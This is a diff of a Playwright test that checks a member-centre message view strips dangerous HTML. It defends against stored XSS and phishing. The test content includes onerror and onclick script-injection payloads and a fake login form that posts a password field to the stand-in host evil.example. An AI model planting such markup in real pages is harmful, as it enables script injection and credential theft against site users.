@@ -176,17 +176,20 @@ describe('the member centre', () => {
       title: handlerTitle,
       content:
         '<img src="data:image/png;base64,AAAA" alt="坏图" onerror="window.__xss = (window.__xss || 0) + 1">' +
-        '<button type="button" onclick="window.__xss = (window.__xss || 0) + 10">领取</button>',
+        '<p onclick="window.__xss = (window.__xss || 0) + 10">领取</p>' +
+        '<form action="https://evil.example/"><input name="password"><button type="submit">提交</button></form>',
       member_id: memberId,
     });
     await page.goto(`${baseURL()}/#/message?type=2`);
     const withHandlers = page.getByRole('article', { name: handlerTitle }).locator('.message-content');
-    await withHandlers.getByRole('button', { name: '领取' }).waitFor();
+    await withHandlers.getByText('领取', { exact: true }).waitFor();
     expect(await withHandlers.locator('[onerror], [onclick]').count()).toBe(0);
+    // Forms and their controls are gone too; their text stays.
+    expect(await withHandlers.locator('form, input, button').count()).toBe(0);
     await expect
       .poll(() => withHandlers.getByRole('img', { name: '坏图' }).evaluate((img: HTMLImageElement) => img.complete))
       .toBe(true);
-    await withHandlers.getByRole('button', { name: '领取' }).click();
+    await withHandlers.getByText('领取', { exact: true }).click();
     expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
     expect(errors).toEqual([]);
     await context.close();
